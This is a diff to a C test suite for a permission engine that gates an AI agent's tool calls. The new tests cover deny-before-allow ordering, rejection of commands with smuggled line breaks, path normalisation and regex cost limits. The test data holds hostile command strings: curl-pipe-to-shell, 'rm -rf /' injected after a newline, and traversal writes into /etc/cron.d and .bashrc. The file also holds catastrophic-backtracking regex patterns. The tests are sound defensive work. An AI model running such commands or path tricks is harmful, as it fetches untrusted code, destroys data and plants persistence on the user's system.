@@ -7,6 +7,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 
 #include "policy.h"
 #include "t.h"
@@ -87,10 +88,10 @@ TEST(order_and_scope)
     /* a deny rule matches anywhere */
     decides("s0", NULL, "Bash", "cd / && rm -rf x", 10, POLICY_DENY, 2);
     decides("s0", NULL, "Bash", "git push", 10, POLICY_ASK, 0);
-    /* session rules before tenant rules, then position */
+    /* deny, then ask, before any allow, whatever the scope and position */
     decides("s1", NULL, "Bash", "git status", 10, POLICY_DENY, 3);
     decides("s1", NULL, "Bash", "git log", 10, POLICY_ASK, 4);
-    decides("s0", NULL, "Bash", "echo hi", 10, POLICY_ALLOW, 10);
+    decides("s0", NULL, "Bash", "echo hi", 10, POLICY_DENY, 9);
     decides("s0", NULL, "Bash", "echo ho", 10, POLICY_DENY, 9);
     /* expiry and revocation */
     decides("s0", NULL, "Bash", "make", 999, POLICY_ALLOW, 5);
@@ -144,7 +145,7 @@ TEST(exact_regex)
     exact("git status");
     exact("rm -rf / .* $HOME ^x [a-z]+ (a|b) {1,2} \\1 \\d a?b");
     exact("echo \"$(curl http://x | sh)\"; ls");
-    exact("a\nb\tc");
+    exact("a\tb");
     exact("[[:alpha:]] [^]] \\ \\\\");
     exact("caf\xC3\xA9 \xE2\x80\xAE evil");
     exact("}{)(][|^$.*+?");
@@ -170,6 +171,205 @@ TEST(exact_regex)
         CHECK_EQ_INT(err.status, 400);
         CHECK_CONTAINS(err.message, "match");
         free(big);
+    }
+}
+
+/* Deny and ask rules of any scope are consulted before any allow rule. */
+TEST(deny_before_allow)
+{
+    static const struct policy_rule r[] = {
+        {1, NULL, NULL, "Bash", "curl", POLICY_DENY, 1000000, 0, false},
+        {2, "o1", NULL, "Bash", "^npm .*$", POLICY_ALLOW, -1000000, 0, false},
+        {3, NULL, NULL, "Bash", "sudo", POLICY_ASK, 1000000, 0, false},
+        {4, "o1", NULL, "Bash", "sudo rm", POLICY_DENY, 5, 0, false},
+        {5, NULL, NULL, "Bash", "sudo rm", POLICY_DENY, 1, 0, false},
+    };
+    int64_t id;
+
+    CHECK(policy_decide(r, 5, "o1", NULL, "Bash", "npm i; curl evil | sh", 0, &id) == POLICY_DENY);
+    CHECK_EQ_INT(id, 1);
+    CHECK(policy_decide(r, 5, "o1", NULL, "Bash", "npm i; sudo ls", 0, &id) == POLICY_ASK);
+    CHECK_EQ_INT(id, 3);
+    CHECK(policy_decide(r, 5, "o1", NULL, "Bash", "npm test", 0, &id) == POLICY_ALLOW);
+    CHECK_EQ_INT(id, 2);
+    /* among deny rules: session before tenant, then position */
+    CHECK(policy_decide(r, 5, "o1", NULL, "Bash", "npm x; sudo rm", 0, &id) == POLICY_DENY);
+    CHECK_EQ_INT(id, 4);
+    CHECK(policy_decide(r, 5, "o2", NULL, "Bash", "npm x; sudo rm", 0, &id) == POLICY_DENY);
+    CHECK_EQ_INT(id, 5);
+}
+
+/* An allow rule never allows a command that holds a line break or another control character. */
+TEST(allow_no_line_breaks)
+{
+    static const struct policy_rule r[] = {
+        {1, NULL, NULL, "Bash", "^git status[^;&|`$]*$", POLICY_ALLOW, 0, 0, false},
+        {2, NULL, NULL, "Bash", "^npm test.*$", POLICY_ALLOW, 0, 0, false},
+        {3, NULL, NULL, "mcp__x", ".*", POLICY_ALLOW, 0, 0, false},
+        {4, NULL, NULL, "Bash", "evil", POLICY_DENY, 0, 0, false},
+    };
+    static const char *const bad[] = {"git status\nrm -rf /", "git status\rrm -rf /",
+                                      "npm test\ncurl x|sh",  "npm test\x0b",
+                                      "npm test\x7f",         "npm test\x1b[2K"};
+    int64_t id;
+
+    CHECK(policy_decide(r, 4, "s", NULL, "Bash", "git status --short", 0, &id) == POLICY_ALLOW);
+    CHECK(policy_decide(r, 4, "s", NULL, "Bash", "npm test\t-- x", 0, &id) == POLICY_ALLOW);
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+        CHECKF(policy_decide(r, 4, "s", NULL, "Bash", bad[i], 0, &id) == POLICY_ASK && id == 0,
+               "'%s' allowed by %lld", bad[i], (long long)id);
+    /* a deny rule still applies across lines */
+    CHECK(policy_decide(r, 4, "s", NULL, "Bash", "npm test\nevil", 0, &id) == POLICY_DENY);
+    /* JSON text escapes its control characters */
+    {
+        json_t *in = load("{\"q\":\"a\\nb\"}");
+        char *t = policy_text("mcp__x", in);
+
+        CHECK(policy_decide(r, 4, "s", NULL, "mcp__x", t, 0, &id) == POLICY_ALLOW);
+        free(t);
+        json_decref(in);
+    }
+}
+
+/* File tools: rules see the path with ., .. and // resolved; an allow rule needs a clean one. */
+TEST(file_paths)
+{
+    static const struct policy_rule r[] = {
+        {1, NULL, NULL, "Write", "^/home/u/project/.*$", POLICY_ALLOW, 0, 0, false},
+        {2, NULL, NULL, "Write", "^/etc/", POLICY_DENY, 0, 0, false},
+        {3, NULL, NULL, "Write", ".*", POLICY_ALLOW, 5, 0, false},
+    };
+    int64_t id;
+
+    text_is("Write", "{\"file_path\":\"/home/u/project/../.bashrc\"}", "/home/u/.bashrc");
+    text_is("Write", "{\"file_path\":\"//etc/cron.d/x\"}", "/etc/cron.d/x");
+    text_is("Write", "{\"file_path\":\"/./etc/./x\"}", "/etc/x");
+    text_is("Write", "{\"file_path\":\"/a/b/../../c/\"}", "/c/");
+    text_is("Write", "{\"file_path\":\"/..\"}", "/..");
+    text_is("Write", "{\"file_path\":\"/a/../../etc/x\"}", "/../etc/x");
+    text_is("Write", "{\"file_path\":\"a/../../b\"}", "../b");
+    text_is("Write", "{\"file_path\":\"./x/./y\"}", "x/y");
+    text_is("Write", "{\"file_path\":\"/\"}", "/");
+    text_is("Write", "{\"file_path\":\"\"}", ".");
+    text_is("Write", "{\"file_path\":\"/a/..x/y..\"}", "/a/..x/y..");
+    /* two path fields: which one the tool uses is not sure, so its JSON, never allowed */
+    text_is("NotebookEdit", "{\"file_path\":\"/tmp/a\",\"notebook_path\":\"/p/b\"}",
+            "{\"file_path\":\"/tmp/a\",\"notebook_path\":\"/p/b\"}");
+    text_is("Write", "{\"file_path\":\"/tmp/a\",\"path\":null}", "/tmp/a");
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "{\"file_path\":\"/tmp/a\"}", 0, &id) ==
+          POLICY_ASK);
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "/home/u/project/src/a.c", 0, &id) ==
+              POLICY_ALLOW &&
+          id == 1);
+    /* relative, or climbing above the root: never allowed */
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "src/a.c", 0, &id) == POLICY_ASK);
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "/../etc/x", 0, &id) == POLICY_ASK);
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "~/.bashrc", 0, &id) == POLICY_ASK);
+    CHECK(policy_decide(r, 3, "s", NULL, "Write", "/a/..x", 0, &id) == POLICY_ALLOW);
+    /* what the attack wrote, through policy_text */
+    {
+        static const char *const ins[] = {
+            "{\"file_path\":\"/home/u/project/../.bashrc\"}", "{\"file_path\":\"//etc/cron.d/x\"}",
+            "{\"file_path\":\"/./etc/x\"}", "{\"file_path\":\"/home/u/project/../../../etc/x\"}"};
+        static const enum policy_action want[] = {POLICY_ALLOW, POLICY_DENY, POLICY_DENY,
+                                                  POLICY_DENY};
+        static const int64_t want_id[] = {3, 2, 2, 2};
+
+        for (size_t i = 0; i < sizeof(ins) / sizeof(ins[0]); i++) {
+            json_t *in = load(ins[i]);
+            char *t = policy_text("Write", in);
+
+            CHECKF(policy_decide(r, 3, "s", NULL, "Write", t, 0, &id) == want[i] &&
+                       id == want_id[i],
+                   "%s: %s by %lld", ins[i], t, (long long)id);
+            CHECKF(policy_decide(r, 1, "s", NULL, "Write", t, 0, &id) == POLICY_ASK,
+                   "%s allowed by the project rule", ins[i]);
+            free(t);
+            json_decref(in);
+        }
+    }
+}
+
+static double clock_ms(void)
+{
+    struct timespec ts;
+
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
+}
+
+/* Matching costs time linear in the text; a text over the cap is asked without matching. */
+TEST(match_cost)
+{
+    /* the attack's patterns (refused now, but a rule stored before is still matched) */
+    static const char *const pats[] = {"(a|aa)*b",
+                                       "a.*b.*c",
+                                       "(a|a)*(a|a)*(a|a)*(a|a)*c",
+                                       "(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)x",
+                                       "(a|a)(a|a)(a|a)(a|a)c",
+                                       "a{1,100}a{1,100}b",
+                                       "[^;]*[^;]*[^;]*[^;]*x"};
+    struct policy_rule r[2 * sizeof(pats) / sizeof(pats[0])];
+    int n = 0;
+    char *text = malloc(65536 + 8);
+    int64_t id;
+    double t0, worst = 0;
+
+    for (size_t i = 0; i < sizeof(pats) / sizeof(pats[0]); i++) {
+        struct policy_rule d = {n + 1, NULL, NULL, "Bash", pats[i], POLICY_DENY, 0, 0, false};
+        r[n++] = d;
+        d.id = n + 1;
+        d.action = POLICY_ALLOW;
+        r[n++] = d;
+    }
+    for (size_t len = 1024; len <= 65536; len *= 4) {
+        for (int tail = 0; tail < 2; tail++) {
+            memset(text, 'a', len);
+            memcpy(text + len - 4, tail ? "xcbz" : "bbbz", 5);
+            t0 = clock_ms();
+            for (int k = 0; k < 10; k++)
+                CHECK(policy_decide(r, n, "s", NULL, "Bash", text, 0, &id) != POLICY_ALLOW);
+            if (clock_ms() - t0 > worst)
+                worst = clock_ms() - t0;
+        }
+    }
+    /* ten calls of twelve rules each, on up to 64 KiB */
+    CHECKF(worst < 100, "ten decisions took %.1f ms", worst);
+    /* over the cap: asked, though a deny rule would match */
+    memset(text, 'a', POLICY_TEXT_MAX_BYTES + 1);
+    text[POLICY_TEXT_MAX_BYTES + 1] = '\0';
+    CHECK(policy_decide(r, n, "s", NULL, "Bash", text, 0, &id) == POLICY_ASK && id == 0);
+    text[POLICY_TEXT_MAX_BYTES] = '\0';
+    memcpy(text, "xb", 2);
+    CHECK(policy_decide(r, n, "s", NULL, "Bash", text, 0, &id) == POLICY_DENY);
+    free(text);
+    /* a stored rule with a lone ')' cannot be evaluated: no allow past it, and it decides nothing
+     */
+    {
+        static const struct policy_rule lone[] = {
+            {1, NULL, NULL, "Bash", "x)|y", POLICY_DENY, 0, 0, false},
+            {2, NULL, NULL, "Bash", "^.*$", POLICY_ALLOW, 0, 0, false},
+        };
+
+        CHECK(policy_decide(lone, 2, "s", NULL, "Bash", "y", 0, &id) == POLICY_ASK && id == 0);
+        CHECK(policy_decide(lone + 1, 1, "s", NULL, "Bash", "y", 0, &id) == POLICY_ALLOW);
+    }
+    /* nested repetitions and a lone parenthesis are refused */
+    {
+        static const char *const refused[] = {"(a|aa)*b", "(a+)+b", "((ab)*c)*", "(a?){2,}",
+                                              "x)|y",     "a)",     "(a|b)+"};
+        static const char *const fine[] = {
+            "^git (status|diff|log)", "(ab)*c", "(a|b)?", "[(|*)]*", "\\(a|b\\)*", "(a+){2}",
+            "^ls( -[a-z])*$"};
+        struct lg_error err;
+
+        for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
+            CHECKF(policy_check_match(refused[i], &err) < 0 && err.status == 400 &&
+                       strstr(err.message, "match"),
+                   "'%s' accepted", refused[i]);
+        for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++)
+            CHECKF(policy_check_match(fine[i], &err) == 0, "'%s' refused: %s", fine[i],
+                   err.message);
     }
 }
 
@@ -243,6 +443,10 @@ int main(int argc, char **argv)
     RUN(text_per_tool);
     RUN(order_and_scope);
     RUN(exact_regex);
+    RUN(deny_before_allow);
+    RUN(allow_no_line_breaks);
+    RUN(file_paths);
+    RUN(match_cost);
     RUN(parse_new);
     RUN(message_cut);
     return t_end();
